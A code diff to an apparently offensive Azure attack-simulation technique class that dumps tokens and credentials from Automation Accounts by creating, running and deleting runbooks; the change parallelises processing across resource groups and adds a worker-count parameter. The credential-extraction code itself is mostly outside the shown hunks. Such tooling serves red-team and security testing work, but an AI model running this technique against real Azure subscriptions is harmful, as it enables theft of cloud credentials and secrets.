@@ -4,6 +4,7 @@ from typing import Dict, Any, Tuple
 from azure.mgmt.automation import AutomationClient
 from azure.mgmt.resource import ResourceManagementClient
 from core.azure.azure_access import AzureAccess
+from core.azure.azure_task_runner import AzureTaskRunner
 import random
 import string
 import time
@@ -33,10 +34,10 @@ class AzureDumpAutomationAccounts(BaseTechnique):
     def execute(self, **kwargs: Any) -> Tuple[ExecutionStatus, Dict[str, Any]]:
         self.validate_parameters(kwargs)
         try:
-            credential = AzureAccess.get_azure_auth_credential()
             # retrieve subscription id
             current_sub_info = AzureAccess().get_current_subscription_info()
             subscription_id = current_sub_info.get("id")
+            max_workers: int = kwargs.get("max_workers", None) or AzureTaskRunner.DEFAULT_MAX_WORKERS
             
             def create_and_run_runbook_direct(resource_group_name, auto_account_name, runbook_content, automation_client):
                 '''Create, run, and delete a runbook directly in an Automation Account'''
@@ -190,17 +191,13 @@ class AzureDumpAutomationAccounts(BaseTechnique):
                 return value_creds
 
             # Authenticate and initialize clients
-            credential = AzureAccess().get_azure_auth_credential()
-            automation_client = AutomationClient(credential, subscription_id)
-            resource_management_client = ResourceManagementClient(credential, subscription_id)
+            automation_client = AzureAccess().get_management_client(AutomationClient, subscription_id)
+            resource_management_client = AzureAccess().get_management_client(ResourceManagementClient, subscription_id)
 
-            resource_groups = resource_management_client.resource_groups.list()
-
-            auto_account_data = {}
-            raw_responses = {}
-
-            for resource_group in resource_groups:
-                resource_group_name = resource_group.name
+            def dump_resource_group(resource_group_name):
+                '''Dump tokens and credentials of all Automation Accounts in a resource group'''
+                auto_account_data = {}
+                raw_responses = {}
                 print(f"Processing resource group: {resource_group_name}")
                 
                 print(f"    Getting Azure Automation Accounts")
@@ -209,7 +206,7 @@ class AzureDumpAutomationAccounts(BaseTechnique):
 
                 if not accounts_list:
                     print(f"    No automation accounts found in resource group '{resource_group_name}'.")
-                    continue
+                    return auto_account_data
 
                 for auto_account in accounts_list:
                     auto_account_name = auto_account.name
@@ -286,6 +283,19 @@ class AzureDumpAutomationAccounts(BaseTechnique):
                         except Exception:
                             pass
 
+                return auto_account_data
+
+            # Process resource groups concurrently, runbook jobs of different accounts run at the same time
+            resource_group_names = [resource_group.name for resource_group in resource_management_client.resource_groups.list()]
+            rg_results = AzureTaskRunner.get_instance().map(dump_resource_group, resource_group_names, subscription_id, max_workers)
+
+            auto_account_data = {}
+            for resource_group_name, rg_result in zip(resource_group_names, rg_results):
+                if isinstance(rg_result, Exception):
+                    print(f"Error processing resource group {resource_group_name}: {str(rg_result)}")
+                    continue
+                auto_account_data.update(rg_result)
+
             return ExecutionStatus.SUCCESS, {
                 "message": f"Successfully dumped automation accounts",
                 "value": auto_account_data
@@ -297,4 +307,12 @@ class AzureDumpAutomationAccounts(BaseTechnique):
             }
 
     def get_parameters(self) -> Dict[str, Dict[str, Any]]:
-        return {}
\ No newline at end of file
+        return {
+            "max_workers": {
+                "type": "int",
+                "required": False,
+                "default": AzureTaskRunner.DEFAULT_MAX_WORKERS,
+                "name": "Max Worker Threads",
+                "input_field_type": "number"
+            }
+        }
\ No newline at end of file